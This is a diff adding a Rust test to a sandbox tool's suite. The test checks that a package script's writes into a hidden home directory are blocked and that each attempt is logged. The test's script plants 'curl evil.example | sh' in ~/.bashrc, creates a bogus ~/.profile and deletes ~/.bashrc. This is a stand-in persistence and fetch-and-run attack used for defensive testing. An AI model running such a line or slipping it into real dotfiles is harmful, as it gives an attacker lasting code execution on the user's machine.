@@ -1,8 +1,9 @@
 //! Writing outside the project and its temp dir: persistence in dotfiles,
 //! droppers in shared /tmp, tampering with sibling checkouts.
 
-use crate::util::{Tier, World, read, unique_sleep_arg, user};
+use crate::util::{Tier, World, read, unique_sleep_arg, user, violation_lines};
 use crate::{at_every_tier, require};
+use std::path::Path;
 use std::time::Duration;
 
 /// Runs as an unprivileged user: a job appends to `$HOME/.bashrc`, drops a
@@ -89,6 +90,54 @@ fn creating_files_in_home_is_blocked(tier: Tier) {
     );
 }
 at_every_tier!(creating_files_in_home_is_blocked);
+
+/// Issue P10, item 6. Runs as an unprivileged user whose home is not below
+/// `/tmp` (FULL's `/tmp` is its own): a package's script appends to
+/// `~/.bashrc`, creates `~/.profile` and removes `~/.bashrc`. FULL's view
+/// leaves the home out, so the kernel answers `ENOENT` there (and said
+/// nothing to vetto, which ended CLEAN); FS-ONLY's Landlock answers
+/// `EACCES`. Evidence: bare, the three succeed; sandboxed, `~/.bashrc` is
+/// what it was, no `~/.profile` exists, `vetto ci` exits 3 and the session
+/// log names each attempt with the process that made it.
+fn writes_into_a_home_the_sandbox_hides_are_recorded(tier: Tier) {
+    require!(tier.feature());
+    let w = World::at_in(tier, Path::new("/var/tmp"));
+    let bashrc = w.home.join(".bashrc");
+    let original = "# the user's bashrc\n";
+    w.write(&bashrc, original);
+    let script = "echo 'curl evil.example | sh' >> ~/.bashrc; echo PWNED > ~/.profile; \
+                  rm -f ~/.bashrc; echo script-finished";
+    w.sh_bare(script).assert_success();
+    assert!(
+        read(&bashrc).is_none() && w.home.join(".profile").exists(),
+        "control: the bare script did not write the home"
+    );
+    std::fs::remove_file(w.home.join(".profile")).unwrap();
+    w.write(&bashrc, original);
+
+    let (out, log) = w.ci_sh(script);
+    out.assert_stdout_contains("script-finished");
+    assert_eq!(read(&bashrc).as_deref(), Some(original), "{}", out.dump());
+    assert!(!w.home.join(".profile").exists(), "{}", out.dump());
+    assert_eq!(out.code(), 3, "{}", out.dump());
+    let violations = violation_lines(&log);
+    for (name, by) in [
+        (".bashrc", "/dash"),
+        (".profile", "/dash"),
+        (".bashrc", "/rm"),
+    ] {
+        let path = w.home.join(name);
+        assert!(
+            violations.iter().any(|l| l.contains("\"fs-write-denied\"")
+                && l.contains(&format!("\"{}\"", path.display()))
+                && l.contains(by)),
+            "no fs-write-denied of {} by {by}\n{log}\n{}",
+            path.display(),
+            out.dump()
+        );
+    }
+}
+at_every_tier!(writes_into_a_home_the_sandbox_hides_are_recorded);
 
 /// Runs as an unprivileged user: a job drops a payload in `/dev/shm`, a
 /// host-wide tmpfs that other processes (and later jobs) read, and that
